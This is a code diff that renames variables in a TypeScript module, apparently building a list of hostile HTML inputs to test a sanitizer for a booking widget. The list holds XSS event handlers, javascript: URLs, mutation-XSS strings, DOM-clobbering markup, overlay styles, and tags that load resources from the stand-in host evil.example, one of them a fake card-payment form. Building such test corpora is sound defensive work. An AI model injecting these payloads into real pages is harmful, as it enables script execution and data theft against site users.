@@ -6,10 +6,10 @@
 import { plainTexts } from './plain-texts.ts';
 
 const trip = 'trip()';
-const evil = '//evil.example';
+const evilUrl = '//evil.example';
 
 /** Markup with an event handler. The generator replaces `@` by the script that the handler runs. */
-const handlers = [
+const eventHandlers = [
   '<img src=x onerror=@>',
   '<img src=x onerror="@">',
   "<img src=x onerror='@'>",
@@ -85,7 +85,7 @@ const handlers = [
 ];
 
 /** URLs that run a script or load a document. */
-const schemes = [
+const scriptUrls = [
   `javascript:${trip}`,
   `JaVaScRiPt:${trip}`,
   ` javascript:${trip}`,
@@ -134,50 +134,50 @@ const otherLinkTemplates = [
 ];
 
 /** Markup that sends requests to another server. */
-const foreign = [
-  `<script src=${evil}/a.js></script>`,
-  `<link rel=stylesheet href=${evil}/a.css>`,
-  `<link rel=prefetch href=${evil}/a>`,
-  `<link rel=dns-prefetch href=${evil}>`,
-  `<style>@import "${evil}/a.css"</style>`,
-  `<style>*{background:url(${evil}/a)}</style>`,
-  `<b style="background:url(${evil}/b)">x</b>`,
-  `<b style="background-image:image-set('${evil}/c' 1x)">x</b>`,
-  `<b style="content:url(${evil}/d)">x</b>`,
-  `<b style="list-style:url(${evil}/e)">x</b>`,
-  `<b style="cursor:url(${evil}/f),auto">x</b>`,
-  `<b style="font-family:x;src:url(${evil}/g)">x</b>`,
-  `<iframe src=${evil}/h></iframe>`,
-  `<object data=${evil}/i></object>`,
-  `<embed src=${evil}/j>`,
-  `<video src=${evil}/k autoplay></video>`,
-  `<audio src=${evil}/l autoplay></audio>`,
-  `<video poster=${evil}/m></video>`,
-  `<img srcset="${evil}/n 1x">`,
-  `<img lowsrc=${evil}/o dynsrc=${evil}/p>`,
-  `<picture><source srcset=${evil}/q><img></picture>`,
-  `<input type=image src=${evil}/r>`,
-  `<body background=${evil}/s>`,
-  `<svg><image href=${evil}/t /></svg>`,
-  `<svg><use href=${evil}/u#x /></svg>`,
-  `<svg><filter><feImage href=${evil}/v /></filter></svg>`,
-  `<a href=https:${evil} ping=${evil}/w>x</a>`,
-  `<track src=${evil}/x>`,
-  `<form action=${evil}/y><input name=card><button>Pay here</button></form>`,
-  `<meta http-equiv=refresh content="0;url=${evil}/z">`,
-  `<base href=${evil}/>`,
-  `<portal src=${evil}/a></portal>`,
-  `<frameset><frame src=${evil}/b></frameset>`,
-  `<applet codebase=${evil}/c>x</applet>`,
-  `<bgsound src=${evil}/d>`,
-  `<html manifest=${evil}/e>`,
-  `<script type=importmap>{"imports":{"lit":"${evil}/f"}}</script>`,
-  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${evil}/g"]}]}</script>`,
-  `<slipway-booking base-url=https:${evil}></slipway-booking>`,
-  `<div data-slipway=1 data-base-url=https:${evil}>x</div>`,
+const foreignElements = [
+  `<script src=${evilUrl}/a.js></script>`,
+  `<link rel=stylesheet href=${evilUrl}/a.css>`,
+  `<link rel=prefetch href=${evilUrl}/a>`,
+  `<link rel=dns-prefetch href=${evilUrl}>`,
+  `<style>@import "${evilUrl}/a.css"</style>`,
+  `<style>*{background:url(${evilUrl}/a)}</style>`,
+  `<b style="background:url(${evilUrl}/b)">x</b>`,
+  `<b style="background-image:image-set('${evilUrl}/c' 1x)">x</b>`,
+  `<b style="content:url(${evilUrl}/d)">x</b>`,
+  `<b style="list-style:url(${evilUrl}/e)">x</b>`,
+  `<b style="cursor:url(${evilUrl}/f),auto">x</b>`,
+  `<b style="font-family:x;src:url(${evilUrl}/g)">x</b>`,
+  `<iframe src=${evilUrl}/h></iframe>`,
+  `<object data=${evilUrl}/i></object>`,
+  `<embed src=${evilUrl}/j>`,
+  `<video src=${evilUrl}/k autoplay></video>`,
+  `<audio src=${evilUrl}/l autoplay></audio>`,
+  `<video poster=${evilUrl}/m></video>`,
+  `<img srcset="${evilUrl}/n 1x">`,
+  `<img lowsrc=${evilUrl}/o dynsrc=${evilUrl}/p>`,
+  `<picture><source srcset=${evilUrl}/q><img></picture>`,
+  `<input type=image src=${evilUrl}/r>`,
+  `<body background=${evilUrl}/s>`,
+  `<svg><image href=${evilUrl}/t /></svg>`,
+  `<svg><use href=${evilUrl}/u#x /></svg>`,
+  `<svg><filter><feImage href=${evilUrl}/v /></filter></svg>`,
+  `<a href=https:${evilUrl} ping=${evilUrl}/w>x</a>`,
+  `<track src=${evilUrl}/x>`,
+  `<form action=${evilUrl}/y><input name=card><button>Pay here</button></form>`,
+  `<meta http-equiv=refresh content="0;url=${evilUrl}/z">`,
+  `<base href=${evilUrl}/>`,
+  `<portal src=${evilUrl}/a></portal>`,
+  `<frameset><frame src=${evilUrl}/b></frameset>`,
+  `<applet codebase=${evilUrl}/c>x</applet>`,
+  `<bgsound src=${evilUrl}/d>`,
+  `<html manifest=${evilUrl}/e>`,
+  `<script type=importmap>{"imports":{"lit":"${evilUrl}/f"}}</script>`,
+  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${evilUrl}/g"]}]}</script>`,
+  `<slipway-booking base-url=https:${evilUrl}></slipway-booking>`,
+  `<div data-slipway=1 data-base-url=https:${evilUrl}>x</div>`,
 ];
 
-const scripts = [
+const scriptElements = [
   `<script>${trip}</script>`,
   `<SCRIPT>${trip}</SCRIPT>`,
   `<script >${trip}</script >`,
@@ -216,7 +216,7 @@ const scripts = [
 ];
 
 /** Markup that parses differently after serialization, or below a different parent. */
-const mutations = [
+const mutatingHtml = [
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip()>',
   '<math><mtext><table><mglyph><style><img src=x onerror=trip()>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trip()&gt;">',
@@ -276,7 +276,7 @@ const mutations = [
 ];
 
 /** Ids and names of elements that shadow the global variables of scripts. */
-const clobbering = [
+const clobberingHtml = [
   'slipwayEarly',
   'dataLayer',
   'trustedTypes',
@@ -292,7 +292,7 @@ const clobbering = [
 ].flatMap((name) => [`<form id=${name}><input name=${name}></form>`, `<a id=${name} name=${name} href=x>x</a>`]);
 
 /** Markup whose styles cover or imitate parts of the page. */
-const looks = [
+const disguisingHtml = [
   '<b style="position:fixed;inset:0;z-index:9999;background:red">x</b>',
   '<b class="primary" part="book" slot="footer" role="alert">x</b>',
   '<style>:host,*{display:none!important}</style>',
@@ -311,19 +311,20 @@ const looks = [
   '<slot name=header>x</slot>',
 ];
 
-const into = (places: readonly string[], what: string) => places.map((place) => place.replaceAll('@', () => what));
+const insertInto = (places: readonly string[], insertedText: string) =>
+  places.map((template) => template.replaceAll('@', () => insertedText));
 
 /** All hostile texts without duplicates. */
 export const hostileTexts: readonly string[] = [
   ...new Set([
-    ...into(handlers, trip),
-    ...schemes.flatMap((scheme) => into(linkTemplates, scheme)),
-    ...into(otherLinkTemplates, `javascript:${trip}`),
-    ...foreign,
-    ...scripts,
-    ...mutations,
-    ...clobbering,
-    ...looks,
+    ...insertInto(eventHandlers, trip),
+    ...scriptUrls.flatMap((scheme) => insertInto(linkTemplates, scheme)),
+    ...insertInto(otherLinkTemplates, `javascript:${trip}`),
+    ...foreignElements,
+    ...scriptElements,
+    ...mutatingHtml,
+    ...clobberingHtml,
+    ...disguisingHtml,
     ...plainTexts,
   ]),
 ];
